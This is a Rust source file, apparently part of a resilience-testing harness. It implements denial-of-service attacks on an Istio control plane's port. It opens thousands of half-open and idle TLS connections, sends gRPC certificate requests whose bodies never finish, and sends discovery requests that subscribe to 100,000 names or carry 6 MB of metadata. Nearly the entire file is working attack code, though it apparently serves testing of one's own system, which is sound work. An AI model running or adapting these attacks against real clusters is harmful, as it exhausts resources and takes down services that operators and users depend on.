//! Attacks on the control plane's port.
use super::attacker::{Field, in_parallel};
use super::{tls, world};
use anyhow::{Context as _, Result};
use bytes::{BufMut as _, Bytes, BytesMut};
use h2::client::SendRequest;
use http::Request;
use mesh_proto::discovery::{DeltaDiscoveryRequest, Node};
use prost::Message as _;
use rustls::ClientConfig;
use std::net::SocketAddr;
use std::sync::Arc;
use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::TcpStream;

const ADDRESSES: &str = "type.googleapis.com/istio.workload.Address";
const TABLES: &str = "/envoy.service.discovery.v3.AggregatedDiscoveryService/DeltaAggregatedResources";
const CERTIFICATES: &str = "/istio.v1.auth.IstioCertificateService/CreateCertificate";

fn door() -> Result<SocketAddr> {
    world::CONTROL_PLANE.trim_start_matches("https://").parse().context("the control plane's address")
}

/// Says nothing.
pub(super) async fn half_open(field: Field) -> Result<()> {
    let door = door()?;
    in_parallel(4_000, field, async move |field: &Field| {
        let Ok(mut stream) = TcpStream::connect(door).await else { return field.count.failed() };
        field.count.begun();
        // Until it is closed.
        let _ = stream.read_u8().await;
    })
    .await;
    Ok(())
}

/// Says nothing more than TLS.
pub(super) async fn idle(field: Field) -> Result<()> {
    let (door, config) = (door()?, tls::nobody()?);
    in_parallel(4_000, field, async move |field: &Field| {
        let Ok(mut stream) = tls::dial(door, &config).await else { return field.count.failed() };
        field.count.begun();
        let mut buffer = [0; 1024];
        while stream.read(&mut buffer).await.is_ok_and(|read| read > 0) {}
        let _ = stream.shutdown().await;
    })
    .await;
    Ok(())
}

async fn http2(door: SocketAddr, config: &Arc<ClientConfig>) -> Result<SendRequest<Bytes>> {
    let stream = tls::dial(door, config).await?;
    let (client, connection) = h2::client::handshake(stream).await?;
    tokio::task::spawn_local(async move {
        // It ends when the server has enough.
        let _ = connection.await;
    });
    Ok(client.ready().await?)
}

fn call(path: &str, token: Option<&str>) -> Result<Request<()>> {
    let mut request = Request::post(format!("https://istiod.istio-system.svc{path}"))
        .header("content-type", "application/grpc")
        .header("te", "trailers");
    if let Some(token) = token {
        request = request.header("authorization", format!("Bearer {token}"));
    }
    Ok(request.body(())?)
}

/// A gRPC message of which everybody knows the length and nobody sees the end.
pub(super) async fn requests(field: Field) -> Result<()> {
    let (door, config) = (door()?, tls::nobody()?);
    in_parallel(8, field, async move |field: &Field| {
        let Ok(client) = http2(door, &config).await else { return field.count.failed() };
        let streams = (0..200).map(|_| async {
            let mut client = client.clone().ready().await?;
            let (answer, mut body) = client.send_request(call(CERTIFICATES, None)?, false)?;
            field.count.begun();
            let mut beginning = BytesMut::from(&[0, 0, 1, 0, 0][..]);
            beginning.resize(64_000, b'x');
            body.send_data(beginning.freeze(), false)?;
            answer.await?;
            anyhow::Ok(())
        });
        for result in futures_util::future::join_all(streams).await {
            if result.is_err() {
                field.count.failed();
            }
        }
    })
    .await;
    Ok(())
}

/// Sends `request` as the first of a stream, and listens.
async fn ask(
    field: &Field,
    door: SocketAddr,
    config: &Arc<ClientConfig>,
    request: &DeltaDiscoveryRequest,
) -> Result<()> {
    let mut client = http2(door, config).await?;
    let (answer, mut body) = client.send_request(call(TABLES, Some(&field.token))?, false)?;
    let message = request.encode_to_vec();
    let mut framed = BytesMut::with_capacity(message.len() + 5);
    framed.put_u8(0);
    framed.put_u32(u32::try_from(message.len())?);
    framed.put_slice(&message);
    let mut rest = framed.freeze();
    field.count.begun();
    while !rest.is_empty() {
        body.reserve_capacity(rest.len().min(1 << 20));
        let room = std::future::poll_fn(|cx| body.poll_capacity(cx)).await.context("the stream has ended")??;
        body.send_data(rest.split_to(room.min(rest.len())), false)?;
    }
    let mut heard = answer.await?.into_body();
    while let Some(data) = heard.data().await {
        let length = data?.len();
        heard.flow_control().release_capacity(length)?;
    }
    Ok(())
}

async fn repeated(streams: usize, field: Field, request: DeltaDiscoveryRequest) -> Result<()> {
    let (door, config) = (door()?, tls::nobody()?);
    in_parallel(streams, field, async move |field: &Field| {
        if ask(field, door, &config, &request).await.is_err() {
            field.count.failed();
        }
    })
    .await;
    Ok(())
}

pub(super) async fn names(field: Field) -> Result<()> {
    let names =
        (0..100_000).map(|number| format!("nowhere/10.{}.{}.{}", number >> 16, number >> 8 & 255, number & 255));
    let request = DeltaDiscoveryRequest {
        type_url: ADDRESSES.into(),
        resource_names_subscribe: names.collect(),
        ..DeltaDiscoveryRequest::default()
    };
    repeated(8, field, request).await
}

pub(super) async fn metadata(field: Field) -> Result<()> {
    let text = prost_types::Value { kind: Some(prost_types::value::Kind::StringValue("x".repeat(6_000_000))) };
    let node = Node {
        id: "attacker".into(),
        metadata: Some(prost_types::Struct { fields: [("X".to_owned(), text)].into_iter().collect() }),
    };
    let request =
        DeltaDiscoveryRequest { node: Some(node), type_url: ADDRESSES.into(), ..DeltaDiscoveryRequest::default() };
    repeated(10, field, request).await
}
